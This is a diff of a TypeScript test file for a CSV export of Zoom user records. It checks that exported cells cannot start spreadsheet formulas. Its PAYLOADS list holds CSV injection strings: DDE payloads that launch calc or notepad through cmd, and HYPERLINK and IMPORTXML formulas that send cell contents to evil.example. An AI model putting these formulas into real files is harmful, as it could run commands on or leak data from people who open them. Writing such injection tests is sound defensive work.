@@ -49,8 +49,15 @@ test('a cell starting with -, tab or CR is neutralised unless it is a plain numb
 
 test('CJK names and every column round-trip through a CSV reader', () => {
   const user = {
-    id: 'KDcuGIm1QgePTO8WbOqwIQ', email: 'wang.fang@example.com', type: 2, first_name: '芳', last_name: '王',
-    display_name: '王芳, "研发"', status: 'active' as const, dept: '研发部', group_ids: ['g1', 'g2'],
+    id: 'KDcuGIm1QgePTO8WbOqwIQ',
+    email: 'wang.fang@example.com',
+    type: 2,
+    first_name: '芳',
+    last_name: '王',
+    display_name: '王芳, "研发"',
+    status: 'active' as const,
+    dept: '研发部',
+    group_ids: ['g1', 'g2'],
   };
   const text = CSV_BOM + csvOf([user]) + csvOf([{ email: 'p@example.com', type: 1 }], CONTEXT, 'pending').split('\r\n')[1] + '\r\n';
   assert.ok(text.startsWith('\uFEFFid,email,'));
@@ -70,11 +77,11 @@ const PAYLOADS = [
   '=1+1',
   '+1+1',
   '-1+1',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '=cmd|\' /C calc\'!A0',
-  '=cmd|\' /C notepad\'!\'A1\'',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '+cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "=cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+  "-2+3+cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
   '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
   '=IMAGE("http://evil.example/x.png")',
@@ -109,20 +116,34 @@ function cellsAs(text: string, delimiter: string): string[] {
 
 /** A cell that starts a formula: its first character past blanks and quotes folds (NFKC) to = + - @. */
 function startsFormula(cell: string): boolean {
-  const first = cell.replace(/^[\s"]+/, '').slice(0, 1).normalize('NFKC');
+  const first = cell
+    .replace(/^[\s"]+/, '')
+    .slice(0, 1)
+    .normalize('NFKC');
   return first !== '' && '=+-@'.includes(first) && !/^[+-]?\d+(\.\d+)?$/.test(cell.trim());
 }
 
 test('no cell of an export starts a formula in a comma, semicolon, tab or pipe locale (OWASP payloads)', () => {
   for (const payload of PAYLOADS) {
     const user = {
-      id: payload, email: `${payload}@example.com`, type: 1, display_name: payload, first_name: payload, last_name: 'Smith',
-      dept: `R&D ${payload}`, status: 'active' as const, group_ids: ['g1', payload],
+      id: payload,
+      email: `${payload}@example.com`,
+      type: 1,
+      display_name: payload,
+      first_name: payload,
+      last_name: 'Smith',
+      dept: `R&D ${payload}`,
+      status: 'active' as const,
+      group_ids: ['g1', payload],
     };
     const text = csvOf([user]);
     for (const delimiter of [',', ';', '\t', '|']) {
       const formula = cellsAs(text, delimiter).find(startsFormula);
-      assert.equal(formula, undefined, `${JSON.stringify(payload)} gives the formula cell ${JSON.stringify(formula)} with separator ${JSON.stringify(delimiter)}`);
+      assert.equal(
+        formula,
+        undefined,
+        `${JSON.stringify(payload)} gives the formula cell ${JSON.stringify(formula)} with separator ${JSON.stringify(delimiter)}`,
+      );
     }
     // Read with the file's own separator, every column is still one cell and the text is all there.
     const [header, row] = parse(text, { relax_column_count: false }) as string[][];
@@ -143,26 +164,100 @@ test('the formula guard covers every character Unicode folds into = + - @', () =
 
 test('every field List users returns has a column named as the API names it, with role and group names beside the ids', () => {
   const user: ZoomUser = {
-    id: 'u1', email: 'a@example.com', first_name: 'Ann', last_name: 'Lee', display_name: 'Ann Lee', type: 2, status: 'active',
-    role_id: '2', dept: 'R&D', timezone: 'Asia/Shanghai', language: 'zh-CN', verified: 1, pmi: 8123456789, employee_unique_id: 'E42',
-    plan_united_type: '1', user_created_at: '2024-01-02T03:04:05Z', created_at: '2024-01-03T03:04:05Z', last_login_time: '2026-11-30T08:00:00Z',
-    last_client_version: '6.2.0', group_ids: ['g1', 'g2', 'g9'], im_group_ids: ['im1'], division_ids: ['d1'],
+    id: 'u1',
+    email: 'a@example.com',
+    first_name: 'Ann',
+    last_name: 'Lee',
+    display_name: 'Ann Lee',
+    type: 2,
+    status: 'active',
+    role_id: '2',
+    dept: 'R&D',
+    timezone: 'Asia/Shanghai',
+    language: 'zh-CN',
+    verified: 1,
+    pmi: 8123456789,
+    employee_unique_id: 'E42',
+    plan_united_type: '1',
+    user_created_at: '2024-01-02T03:04:05Z',
+    created_at: '2024-01-03T03:04:05Z',
+    last_login_time: '2026-11-30T08:00:00Z',
+    last_client_version: '6.2.0',
+    group_ids: ['g1', 'g2', 'g9'],
+    im_group_ids: ['im1'],
+    division_ids: ['d1'],
     license_info_list: [{ license_type: 'MEETING', license_option: 2, subscription_id: 'SUBREF-1' }],
-    custom_attributes: [{ key: 'cbf_cost', name: 'Cost center', value: 'CC-1' }, { key: 'cbf_badge', name: 'Badge', value: '=1+1' }],
+    custom_attributes: [
+      { key: 'cbf_cost', name: 'Cost center', value: 'CC-1' },
+      { key: 'cbf_badge', name: 'Badge', value: '=1+1' },
+    ],
   };
   const [header, row] = parseCsv(csvOf([user, { email: 'b@example.com', type: 1 }]));
   assert.deepEqual(header, [
-    'id', 'email', 'display_name', 'first_name', 'last_name', 'type', 'type_name', 'status', 'role_id', 'role_name', 'dept', 'timezone',
-    'language', 'verified', 'pmi', 'employee_unique_id', 'plan_united_type', 'user_created_at', 'created_at', 'last_login_time',
-    'last_client_version', 'group_ids', 'group_names', 'im_group_ids', 'division_ids', 'license_info_list',
-    'custom_attributes.Badge', 'custom_attributes.Cost center',
+    'id',
+    'email',
+    'display_name',
+    'first_name',
+    'last_name',
+    'type',
+    'type_name',
+    'status',
+    'role_id',
+    'role_name',
+    'dept',
+    'timezone',
+    'language',
+    'verified',
+    'pmi',
+    'employee_unique_id',
+    'plan_united_type',
+    'user_created_at',
+    'created_at',
+    'last_login_time',
+    'last_client_version',
+    'group_ids',
+    'group_names',
+    'im_group_ids',
+    'division_ids',
+    'license_info_list',
+    'custom_attributes.Badge',
+    'custom_attributes.Cost center',
   ]);
   const get = (name: string) => row[header.indexOf(name)];
-  assert.deepEqual(row, [
-    'u1', 'a@example.com', 'Ann Lee', 'Ann', 'Lee', '2', 'Licensed', 'active', '2', 'Member', 'R&D', 'Asia/Shanghai',
-    'zh-CN', '1', '8123456789', 'E42', '1', '2024-01-02T03:04:05Z', '2024-01-03T03:04:05Z', '2026-11-30T08:00:00Z',
-    '6.2.0', 'g1;g2;g9', 'Engineering;Sales;', 'im1', 'd1', JSON.stringify(user.license_info_list), "'=1+1", 'CC-1',
-  ], 'every cell holds its own field');
+  assert.deepEqual(
+    row,
+    [
+      'u1',
+      'a@example.com',
+      'Ann Lee',
+      'Ann',
+      'Lee',
+      '2',
+      'Licensed',
+      'active',
+      '2',
+      'Member',
+      'R&D',
+      'Asia/Shanghai',
+      'zh-CN',
+      '1',
+      '8123456789',
+      'E42',
+      '1',
+      '2024-01-02T03:04:05Z',
+      '2024-01-03T03:04:05Z',
+      '2026-11-30T08:00:00Z',
+      '6.2.0',
+      'g1;g2;g9',
+      'Engineering;Sales;',
+      'im1',
+      'd1',
+      JSON.stringify(user.license_info_list),
+      "'=1+1",
+      'CC-1',
+    ],
+    'every cell holds its own field',
+  );
   assert.equal(get('type'), '2');
   assert.equal(get('type_name'), 'Licensed');
   assert.equal(get('role_name'), 'Member');
@@ -200,7 +295,8 @@ test('a user without a type has an empty type name; attributes are named by name
   const user = {
     email: 'c@example.com',
     custom_attributes: [null, { key: 'cbf_x', value: 'by key' }, { name: 'N', value: 7 }, { name: '', value: 'nameless' }, { name: 5, value: 'numbered' }],
-    group_ids: ['g1', 7, 'g2'], license_info_list: [],
+    group_ids: ['g1', 7, 'g2'],
+    license_info_list: [],
   } as unknown as ZoomUser;
   const [header, row] = parseCsv(csvOf([user]));
   assert.equal(row[header.indexOf('group_names')], 'Engineering;Sales', 'only text ids are named');
